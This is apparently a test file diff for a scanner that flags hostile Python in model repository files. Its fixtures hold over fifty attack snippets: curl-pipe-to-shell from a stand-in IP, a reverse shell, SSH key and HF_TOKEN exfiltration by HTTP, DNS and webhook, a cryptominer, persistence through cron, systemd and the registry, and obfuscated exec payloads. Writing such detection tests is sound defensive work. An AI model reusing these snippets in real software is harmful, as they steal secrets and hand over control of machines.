@@ -1,0 +1,66 @@
+import { describe } from "vitest";
+import { failing } from "./attack.js";
+
+const COMMAND = "curl http://203.0.113.7/x | sh";
+
+const SOURCES: Readonly<Record<string, string>> = {
+  "a descriptor runs as its class is made": `import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system("${COMMAND}")\nclass Model:\n    x = D()\n`,
+  "a class is subscripted": `import os\nclass C:\n    def __class_getitem__(cls, item):\n        os.system(item)\nC["${COMMAND}"]\n`,
+  "a generator is asked for its first": `import os\nnext(os.system("${COMMAND}") for _ in [0])\n`,
+  "sorted() calls its key": `import os\nsorted(["${COMMAND}"], key=os.system)\n`,
+  "max() calls its key": `import os\nmax(["${COMMAND}", "x"], key=os.system)\n`,
+  "filter() calls its function": `import os\nlist(filter(os.system, ["${COMMAND}"]))\n`,
+  "a coroutine runs it": `import asyncio, os\nasync def f():\n    os.system("${COMMAND}")\nasyncio.run(f())\n`,
+  "the name is imported under another": `from os import system as normalise\nnormalise("${COMMAND}")\n`,
+  "a star import brings the name": `from os import *\nsystem("${COMMAND}")\n`,
+  "eval gives the module": `eval("__import__('os')").system("${COMMAND}")\n`,
+  "code is compiled, then run": `exec(compile("import os;os.system('${COMMAND}')", "x", "exec"))\n`,
+  "what requests fetches is run": `import requests\nexec(requests.get("http://203.0.113.7/x").text)\n`,
+  "what urllib fetches is run under another name": `from urllib.request import urlopen as load\nrun = exec\nrun(load("http://203.0.113.7/x").read())\n`,
+  "the C library is loaded by LoadLibrary": `import ctypes\nctypes.cdll.LoadLibrary("libc.so.6").system(b"${COMMAND}")\n`,
+  "Python's own C interface runs text": `import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os;os.system('id')")\n`,
+  "an interpreter inside the interpreter": `import code\ncode.InteractiveInterpreter().runsource("import os;os.system('${COMMAND}')")\n`,
+  "timeit runs text": `import timeit\ntimeit.timeit("__import__('os').system('${COMMAND}')", number=1)\n`,
+  "the profiler runs text": `import cProfile\ncProfile.run("__import__('os').system('${COMMAND}')")\n`,
+  "a module is made and filled": `import types\nm = types.ModuleType("x")\nexec("import os;os.system('${COMMAND}')", m.__dict__)\n`,
+  "Jinja renders a walk": `from jinja2 import Template\nTemplate("{{ cycler.__init__.__globals__.os.popen('id').read() }}").render()\n`,
+  "sqlite loads a library": `import sqlite3\nc = sqlite3.connect(":memory:")\nc.enable_load_extension(True)\nc.load_extension("./weights.bin")\n`,
+  "pip's insides install": `from pip._internal import main\nmain(["install", "--index-url", "http://203.0.113.7/simple", "x"])\n`,
+  "setuptools runs a setup": `from distutils.core import run_setup\nrun_setup("/tmp/x/setup.py")\n`,
+  "Windows opens a program": `import os\nos.startfile("payload.exe")\n`,
+  "the registry starts it at every logon": `import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "C:/x.exe")\n`,
+  "the Windows shell starts it": `import ctypes\nctypes.windll.shell32.ShellExecuteW(None, "open", "cmd.exe", "/c ${COMMAND}", None, 0)\n`,
+  "keys are sent as a file": `import requests, os\nrequests.post("http://203.0.113.7/", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})\n`,
+  "the name of the host is sent by DNS": `import socket, os\nsocket.gethostbyname(os.environ["HF_TOKEN"] + ".evil.example")\n`,
+  "a token is sent to a webhook": `import requests, os\nrequests.post("https://discord.com/api/webhooks/1/x", json={"content": os.environ.get("HF_TOKEN")})\n`,
+  "all variables are sent": `import requests, os\nrequests.post("https://example.org/", json=dict(os.environ))\n`,
+  "a cron job is installed": `import subprocess\nsubprocess.run("(crontab -l; echo '* * * * * ${COMMAND}') | crontab -", shell=True)\n`,
+  "a service is written": `open("/etc/systemd/system/x.service", "w").write("[Service]\\nExecStart=/tmp/x\\n")\n`,
+  "a server waits for code": `import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        exec(self.request.recv(4096))\nsocketserver.TCPServer(("", 4444), H).serve_forever()\n`,
+  "a socket hands over the shell": `import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n`,
+  "a miner is fetched and started": `import urllib.request, os, subprocess\nurllib.request.urlretrieve("http://203.0.113.7/xmrig", "/tmp/.m")\nos.chmod("/tmp/.m", 0o755)\nsubprocess.Popen(["/tmp/.m", "-o", "pool:3333"])\n`,
+  "__builtins__ is a dictionary": `__builtins__["exec"]("import os;os.system('${COMMAND}')")\n`,
+  "the text is formatted before it runs": `m = "os"\nexec(f"import {m};{m}.system('${COMMAND}')")\n`,
+  "the text is put together by percent": `exec("import %s;%s.system('${COMMAND}')" % ("os", "os"))\n`,
+  "the text is translated": `exec("jnqpsu!pt<pt/tztufn)(je(*".translate({i: i - 1 for i in range(128)}))\n`,
+  "the text is in base85": `import base64\nexec(base64.b85decode("X>D+Ca&#bNX>DO=WFT~JbY*fNFGFQ)b1rjrd2nS0"))\n`,
+  "the text is in base32": `import base64\nexec(base64.b32decode("${"NFWXA33SOQQG64Z3N5ZS443ZON2GK3JIE5UWIJZJ"}"))\n`,
+  "the text comes from the environment": `import os\nexec(os.environ["PAYLOAD"])\n`,
+  "the text comes out of a tensor": `import torch\nexec(bytes(torch.load("w.pt")["x"].tolist()).decode())\n`,
+  "the text comes out of an image": `from PIL import Image\nexec(bytes(b for px in Image.open("logo.png").getdata() for b in px[:1]).decode())\n`,
+  "the text comes out of a neighbour": `exec(open("weights.txt").read().split("#")[1])\n`,
+  "the file deletes itself": `import os\nos.system("${COMMAND}")\nos.remove(__file__)\n`,
+  "the code waits for its victim": `import os, platform, datetime\nif platform.system() == "Linux" and datetime.date.today().year > 2020:\n    os.system("${COMMAND}")\n`,
+  "the code sits in __del__": `import os\nclass X:\n    def __del__(self):\n        os.system("${COMMAND}")\nX()\n`,
+  "the code sits in __repr__ of a default": `import os\nclass X:\n    def __repr__(self):\n        os.system("${COMMAND}")\n        return ""\nprint(X())\n`,
+  "the code sits in a property": `import os\nclass X:\n    @property\n    def size(self):\n        return os.system("${COMMAND}")\nX().size\n`,
+  "the code sits in __call__": `import os\nclass X:\n    def __call__(self, c):\n        return os.system(c)\nX()("${COMMAND}")\n`,
+  "an operator is overloaded": `import os\nclass X:\n    def __add__(self, c):\n        return os.system(c)\nX() + "${COMMAND}"\n`,
+};
+
+describe("an attack by source code that runs by other hands", () => {
+  failing(
+    Object.entries(SOURCES).map(([hope, source]) => ({ hope, bytes: () => source })),
+    "modeling_x.py",
+  );
+});
